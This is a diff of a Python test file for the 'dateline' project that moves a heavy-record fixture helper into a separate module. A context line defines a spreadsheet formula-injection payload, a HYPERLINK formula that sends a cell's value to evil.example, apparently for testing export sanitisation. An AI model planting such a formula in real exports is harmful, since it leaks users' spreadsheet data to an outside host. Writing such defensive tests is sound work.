@@ -8,25 +8,15 @@ import time
 import pytest
 from fastapi.testclient import TestClient
 
-from dateline.model import Entity, Event, Record, Span
+from dateline.model import Record
 from dateline.store import open_store
 from dateline.store.export import export as export_rows
 from dateline.store.filters import Filters
 from dateline.web.app import allowed_hosts, create_app, host_name
 
+from heavy import heavy_record
+
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
-
-
-def heavy_record(n_entities: int = 3335, n_events: int = 2227) -> Record:
-    """Return one article with thousands of entities and events (what a giant page parses into)."""
-    sentence = "Officials of Ruritania met envoys of Freedonia in Geneva on Monday. "
-    text = "Heavy\n\n" + sentence * (n_entities // 2 + 10)
-    step = len(sentence)
-    ents = [Entity(id=f"e{n}", name=f"Person {n}", type="PERSON",
-                   mentions=[[8 + n * step // 2, 8 + n * step // 2 + 9]]) for n in range(n_entities)]
-    events = [Event(type="MEET", evidence=Span(8 + n * step // 2, 8 + n * step // 2 + step - 1))
-              for n in range(n_events)]
-    return Record(id="heavy", text=text, title="Heavy", entities=ents, events=events)
 
 
 @pytest.fixture(scope="module")
